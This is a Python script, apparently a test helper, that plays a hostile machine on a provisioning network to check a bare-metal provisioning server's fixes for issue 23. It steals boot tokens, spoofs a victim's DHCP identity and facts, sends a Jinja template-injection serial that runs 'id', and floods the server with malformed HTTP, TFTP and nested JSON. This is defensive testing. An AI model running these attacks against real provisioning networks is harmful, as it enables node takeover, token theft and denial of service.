"""A machine on the provisioning network that tries to take a node (issue 23's hostile e2e).

Run by ``test_hostile_network_qemu.py`` inside a network namespace of its own, bridged to the
VM's segment: its own MAC and its own address (a lease it got from our DHCP server like any
machine), no spoofing of either on the wire. It loops over every attack of issue 23 until the
stop file appears, and writes what it got to ``--out`` (JSON): each token it ever held, the
answers to its TFTP datagrams, the HTTP statuses it saw. Standard library only.

    python3 hostile_attacker.py --server 10.77.0.1 --victim-mac 52:54:… --victim-serial S \
        --victim-address-file F --own-mac M --stop FILE --out FILE
"""

from __future__ import annotations

import argparse
import json
import re
import socket
import struct
import time
import urllib.error
import urllib.request
from collections import Counter
from pathlib import Path
from typing import Any

TOKEN_RE = re.compile(r"provisioner\.token=(\S+)")
INJECTION = "{{ lookup('pipe', 'id > /tmp/pv-hostile-pwned') }}"
DHCP_MAGIC = b"\x63\x82\x53\x63"


class Attacker:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.boot = f"http://{args.server}:{args.http_port}"
        self.tokens: dict[str, str] = {}  # token -> how it was obtained
        self.statuses: Counter[str] = Counter()
        self.tftp_replies = 0
        self.rounds = 0
        self.errors: Counter[str] = Counter()

    # -- HTTP -----------------------------------------------------------------------------

    def http(self, what: str, path: str, body: bytes | None = None,
             token: str | None = None) -> tuple[int, str]:
        request = urllib.request.Request(self.boot + path, data=body,
                                         method="POST" if body is not None else "GET")
        if token:
            request.add_header("Authorization", f"Bearer {token}")
        if body is not None:
            request.add_header("Content-Type", "application/json")
        try:
            with urllib.request.urlopen(request, timeout=10) as reply:
                status, text = reply.status, reply.read().decode(errors="replace")
        except urllib.error.HTTPError as exc:
            status, text = exc.code, exc.read().decode(errors="replace")
        except OSError as exc:
            self.errors[f"{what}: {type(exc).__name__}"] += 1
            return 0, ""
        self.statuses[f"{what} {status}"] += 1
        return status, text

    def keep_tokens(self, how: str, text: str) -> None:
        for token in TOKEN_RE.findall(text):
            self.tokens.setdefault(token, how)
        try:
            reply = json.loads(text)
        except ValueError:
            return
        if isinstance(reply, dict) and isinstance(reply.get("token"), str):
            self.tokens.setdefault(reply["token"], how)

    # -- the attacks ----------------------------------------------------------------------

    def victim_script(self) -> None:
        """The victim's boot script, asked for from our address (finding 1's goal)."""
        _, text = self.http("victim-script", f"/boot/{self.args.victim_mac}.ipxe")
        self.keep_tokens("victim's boot script", text)

    def own_script(self) -> str | None:
        """Our own inspection script: a discovered machine's token, legitimately ours."""
        _, text = self.http("own-script", f"/boot/{self.args.own_mac}.ipxe")
        self.keep_tokens("own boot script", text)
        found = TOKEN_RE.findall(text)
        return found[-1] if found else None

    def adopt(self, token: str) -> None:
        """Finding 2: report the victim's serial and its MAC among our NICs, invented GPUs;
        finding 4: a serial that is a Jinja template."""
        serial = self.args.victim_serial if self.rounds % 2 == 0 else INJECTION
        facts = {
            "system": {"vendor": "QEMU", "model": "Standard PC", "serial": serial,
                       "uuid": "0f4c3b59-9f7e-4bd5-9a61-6a4f3c1a2b3c"},
            "cpu": {"model": "Invented", "sockets": 2, "cores": 64, "arch": "x86_64"},
            "memory_mib": 2 << 20, "disks": [],
            "nics": [{"name": "eth0", "mac": self.args.own_mac, "link": True},
                     {"name": "eth1", "mac": self.args.victim_mac, "link": True}],
            "pci": [], "infiniband": [],
            "gpus": [{"pci_address": f"0000:{n:02x}:00.0", "vendor": "0x10de",
                      "device": "0x2330", "name": "NVIDIA H100 80GB HBM3"} for n in range(8)],
        }
        for mac in (self.args.own_mac, self.args.victim_mac):
            _, text = self.http("adopt", "/agent/v1/facts",
                                json.dumps({"mac": mac, "facts": facts}).encode(), token)
            self.keep_tokens("facts report", text)

    def callbacks(self) -> None:
        """Finding 3: 'booted' from our address with every token we hold."""
        for token in list(self.tokens):
            body = json.dumps({"event": "booted", "hostname": self.args.victim_hostname,
                               "address": self.args.own_address}).encode()
            self.http("callback", "/agent/v1/callback", body, token)

    def fabric(self, token: str) -> None:
        """Finding 5: a fabric scan from a made-up node (about 200 KB)."""
        lines = [f'Ca 1 "H-{n:016x}" # "evil{n} mlx5_0"' for n in range(4000)]
        body = json.dumps({"fabric": "default", "ibnetdiscover": "\n".join(lines)}).encode()
        self.http("fabric", "/agent/v1/fabric", body, token)

    def nested_json(self, token: str) -> None:
        """Finding 9: a body nested deeper than any parser's recursion."""
        self.http("nested", "/agent/v1/facts", b"[" * 100_000 + b"]" * 100_000, token)

    def garbage_http(self) -> None:
        """Finding 8: malformed HTTP on the boot port."""
        for payload in (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 64,
                        b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
                        b"BREW /pot HTCPCP/1.0\r\n\r\n"):
            try:
                with socket.create_connection((self.args.server, self.args.http_port),
                                              timeout=2) as conn:
                    conn.sendall(payload)
                    conn.recv(4096)
            except OSError:
                pass

    def tftp(self) -> None:
        """Finding 6: ERROR, ACK and DATA to port 69; a fixed server answers none of them."""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(0.2)
            for packet in (struct.pack("!HH", 5, 0) + b"loop\0", struct.pack("!HH", 4, 1),
                           struct.pack("!HH", 3, 1) + b"x" * 16):
                sock.sendto(packet, (self.args.server, 69))
            try:
                while True:
                    sock.recvfrom(2048)
                    self.tftp_replies += 1
            except OSError:
                pass

    def dhcp(self) -> None:
        """Finding 1: a DHCPDECLINE whose chaddr is the victim's MAC and option 50 its
        address; and a DISCOVER in the victim's name. UDP payloads only: our own MAC and
        address on the wire."""
        address = self._victim_address()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, self.args.device.encode())
            if address:
                options = (b"\x35\x01\x04" + b"\x32\x04" + socket.inet_aton(address)
                           + b"\x36\x04" + socket.inet_aton(self.args.server) + b"\xff")
                sock.sendto(_dhcp(self.args.victim_mac, options), ("255.255.255.255", 67))
                sock.sendto(_dhcp(self.args.victim_mac, options), (self.args.server, 67))
            sock.sendto(_dhcp(self.args.victim_mac, b"\x35\x01\x01\xff"),
                        ("255.255.255.255", 67))

    def _victim_address(self) -> str | None:
        try:
            return Path(self.args.victim_address_file).read_text().strip() or None
        except OSError:
            return None

    # -- the loop -------------------------------------------------------------------------

    def run(self) -> None:
        stop = Path(self.args.stop)
        while not stop.exists():
            self.rounds += 1
            own = self.attempt(self.own_script)
            for attack in (self.dhcp, self.victim_script, self.callbacks, self.tftp,
                           self.garbage_http):
                self.attempt(attack)
            if own:
                self.attempt(self.adopt, own)
                self.attempt(self.nested_json, own)
                if self.rounds % 5 == 1:
                    self.attempt(self.fabric, own)
            self.write()
            time.sleep(self.args.interval)
        self.write()

    def attempt(self, attack: Any, *args: Any) -> Any:
        """One attack; an error of ours (a refused socket) is counted, never the end."""
        try:
            return attack(*args)
        except OSError as exc:
            self.errors[f"{attack.__name__}: {exc}"] += 1
            return None

    def write(self) -> None:
        out: dict[str, Any] = {"rounds": self.rounds, "tokens": self.tokens,
                               "statuses": dict(self.statuses),
                               "tftp_replies": self.tftp_replies,
                               "errors": dict(self.errors)}
        Path(self.args.out).write_text(json.dumps(out, indent=1))


def _dhcp(mac: str, options: bytes) -> bytes:
    chaddr = bytes.fromhex(mac.replace(":", "")).ljust(16, b"\0")
    header = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, 0x5EC0_0000 | 23, 0,
                         0x8000, b"\0" * 4, b"\0" * 4, b"\0" * 4, b"\0" * 4, chaddr,
                         b"", b"")
    return header + DHCP_MAGIC + options


def main() -> None:
    parser = argparse.ArgumentParser()
    for name in ("server", "victim-mac", "victim-serial", "victim-hostname",
                 "victim-address-file", "own-mac", "own-address", "stop", "out"):
        parser.add_argument(f"--{name}", required=True)
    parser.add_argument("--http-port", type=int, default=8080)
    parser.add_argument("--device", default="eth0")
    parser.add_argument("--interval", type=float, default=0.5)
    Attacker(parser.parse_args()).run()


if __name__ == "__main__":
    main()
